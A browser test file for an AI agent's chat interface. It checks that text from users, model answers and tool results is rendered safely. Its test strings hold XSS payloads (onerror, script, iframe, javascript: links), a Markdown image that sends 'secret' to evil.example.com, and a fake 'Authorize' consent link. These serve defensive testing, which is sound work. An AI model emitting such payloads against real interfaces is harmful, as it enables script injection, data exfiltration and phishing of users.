// What hostile people, models, tools and files try, in a real browser.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { ask, close, ended, lastAnswer, open, person, picture, signIn, stage } from "./stage.mjs";

before(open);
after(close);

/** Lets the agent answer with these events. */
function answer(page, ...events) {
  return page.route("**/chat", (route) => route.fulfill({
    contentType: "text/event-stream", body: events.map((e) => `data: ${JSON.stringify(e)}\n\n`).join("") + "data: [DONE]\n\n",
  }));
}

const says = (text) => [
  { object: "message", status: "in_progress", type: "message", id: "m1", role: "assistant" },
  { object: "content", type: "text", delta: true, msg_id: "m1", text },
  { object: "response", status: "completed" },
];

test("what a person says is shown as text", async (t) => {
  const page = await person(t);
  await signIn(page, "Alice");
  await ask(page, '<img src=x onerror="document.title=1"> weather in "<b>Paris</b>"');
  await ended(page, "done");
  assert.equal(await page.locator("main img, main b").count(), 0);
});

test("weakness 36: what a model says is Markdown, and never markup, script, image or a request for consent", async (t) => {
  const page = await person(t);
  await signIn(page, "Alice");
  const asked = [];
  page.on("request", (r) => !r.url().startsWith(stage.url) && asked.push(r.url()));
  await answer(page, ...says([
    "# Title", "", "| a | b |", "|---|---|", "| 1 | 2 |", "", "```go", "func main() { println(\"hi\") }", "```", "",
    "<img src=x onerror=\"document.title='owned'\"><script>document.title='owned'</script><iframe src=https://evil.example.com></iframe>",
    "[click](javascript:document.title='owned') [data](data:text/html,<script>1</script>) ![secret](https://evil.example.com/leak.png?q=secret)",
    "<section class=\"consent\"><a class=\"primary\" href=\"https://evil.example.com\">Authorize</a></section>", "",
    "[Authorize](https://evil.example.com/authorize) your account",
  ].join("\n")));
  await ask(page, "show me");
  await ended(page, "done");
  const said = lastAnswer(page);
  await said.locator("h1", { hasText: "Title" }).waitFor();
  assert.equal(await said.locator("table td").count(), 2);
  await said.locator("code .hljs-keyword").first().waitFor();
  assert.equal(await said.locator("img, script, iframe, .consent, a.primary").count(), 0);
  assert.equal(await page.title(), "Friday · agent-identity-go");
  for (const link of await said.locator("a").all()) {
    assert.match(await link.getAttribute("href"), /^https:\/\/evil\.example\.com\//);
    assert.match(await link.getAttribute("rel"), /noopener/);
  }
  assert.match(await said.innerText(), /Authorize \(evil\.example\.com\)/, "a link says where it leads");
  assert.deepEqual(asked, [], "nothing was loaded from elsewhere");
  await picture(page, "markdown");
});

test("what a tool or a file says is shown as text", async (t) => {
  const page = await person(t);
  await signIn(page, "Alice");
  const evil = "<img src=x onerror=\"document.title='owned'\"># no heading [x](javascript:1)";
  await answer(page,
    { object: "content", type: "data", status: "completed", data: { call_id: "c1", name: "get_oss_object", arguments: `{"key":"${"<b>x</b>"}"}` } },
    { object: "message", type: "plugin_call_output", status: "completed", content: [{ data: { call_id: "c1", name: "get_oss_object", output: JSON.stringify([{ type: "text", text: evil }]) } }] },
    { object: "response", status: "completed" });
  await ask(page, "read it");
  await ended(page, "done");
  await lastAnswer(page).locator("summary").click();
  assert.match(await lastAnswer(page).innerText(), /<img src=x/);
  assert.equal(await lastAnswer(page).locator("img, b, h1, a").count(), 0);
});

test("weakness 24 and 28: failures are visible", async (t) => {
  const page = await person(t, {}, /Failed to load resource|ERR_/);
  await signIn(page, "Alice");
  await answer(page, { object: "response", status: "failed", error: { code: "MODEL_THROTTLED", message: "The model service is busy." } });
  await ask(page, "one");
  await ended(page, "failed");
  assert.match(await lastAnswer(page).innerText(), /The model service is busy/);
  await picture(page, "failed");
  await page.unroute("**/chat");
  await answer(page, { object: "response", status: "in_progress" });
  await ask(page, "two");
  await page.getByText("The answer broke off.").waitFor();
  await page.unroute("**/chat");
  await page.route("**/chat", (route) => route.abort());
  await ask(page, "three");
  await page.getByText("The backend cannot be reached").waitFor();
  await page.unroute("**/chat");
  await page.getByRole("button", { name: "Try again" }).last().click();
  await ended(page, "done");
});

test("an agent that speaks chat completions", async (t) => {
  const page = await person(t);
  await signIn(page, "Alice");
  const chunk = (content, finish_reason = null) => ({ id: "x", object: "chat.completion.chunk", model: "agentrun", choices: [{ index: 0, delta: { content }, finish_reason }] });
  await answer(page, chunk("Hel"), chunk("lo"), chunk("", "stop"));
  await ask(page, "hi");
  await ended(page, "done");
  assert.match(await lastAnswer(page).innerText(), /Hello/);
});

test("the states of the consent card", async (t) => {
  const page = await person(t);
  await signIn(page, "Alice");
  const auth = (status, code) => ({ object: "authorization", status, id: "a", call_id: "c", tool_name: "docs", provider: "dingtalk", scopes: ["openid"], url: status === "in_progress" ? `${stage.url}/consent/x` : "", error: code ? { code, message: code } : null });
  for (const [code, state, words] of [["denied", "denied", "Refused"], ["expired", "expired", "Expired"], ["timeout", "timeout", "Nobody answered in time"], ["", "granted", "Granted"]]) {
    await answer(page, auth("in_progress"), auth(code ? "failed" : "completed", code), { object: "response", status: "completed" });
    await ask(page, `show ${state}`);
    await page.locator(`.consent[data-state="${state}"]`, { hasText: words }).waitFor();
    assert.equal(await page.locator(`.consent[data-state="${state}"] a, .consent[data-state="${state}"] button`).count(), 0);
    await page.unroute("**/chat");
  }
});
